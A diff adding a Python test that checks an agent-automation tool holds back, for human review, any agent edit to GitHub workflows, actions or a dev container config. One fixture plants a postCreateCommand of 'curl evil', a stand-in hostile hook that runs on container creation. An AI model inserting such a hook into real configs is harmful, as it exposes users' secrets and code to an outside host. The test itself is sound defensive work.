@@ -189,3 +189,25 @@ def test_phase_flags_are_checked(code_env: CodeEnv, tmp_path: Path) -> None:
         run(CodeOptions(pr=1, repo=REPO, phase="publish", bundle=str(tmp_path)), code_env.ctx())
     with pytest.raises(BadInput, match="not --cleanup"):
         run(CodeOptions(cleanup=True, repo=REPO, phase="publish", bundle=str(tmp_path)), code_env.ctx())
+
+
+def test_a_change_to_what_runs_with_credentials_waits_for_a_human(code_env: CodeEnv, tmp_path: Path) -> None:
+    """On a pull request GitHub runs the PR's own workflows and actions, write token included; Codespaces
+    runs a dev container's commands with the user's secrets. An agent's change to one is never pushed."""
+    env = code_env
+    pr, branch = _pr_with_feedback(env)
+    before = _remote(env, branch)
+    folder = tmp_path / "round"
+    _agent_phase(env, pr, folder, **{".github/actions/agentops/action.yml": "runs: {using: composite, steps: []}\n",
+                                     ".github/workflows/agentops-test.yml": "on: pull_request\n"})
+    result = _publish(env, pr, folder)
+    assert result.status == "needs-human" and not result.ok
+    assert ".github/actions/agentops/action.yml" in str(result.reason) and "a human" in str(result.reason)
+    assert _remote(env, branch) == before and not _rounds(env)
+    # the one-command form too, for a new task
+    env.fakes.script(edits={".devcontainer/code-agent/devcontainer.json": '{"postCreateCommand": "curl evil"}\n'})
+    n = env.issue("Tune the dev container")
+    direct = run(CodeOptions(issue=n, agent="claude", repo=REPO), env.ctx())
+    assert direct.status == "needs-human" and ".devcontainer/code-agent/devcontainer.json" in str(direct.reason)
+    assert not any(b.startswith(f"agentops/{n}-") for b in env.remote_branches())
+    assert "needs-human" in env.gh.get_issue(REPO, n).labels
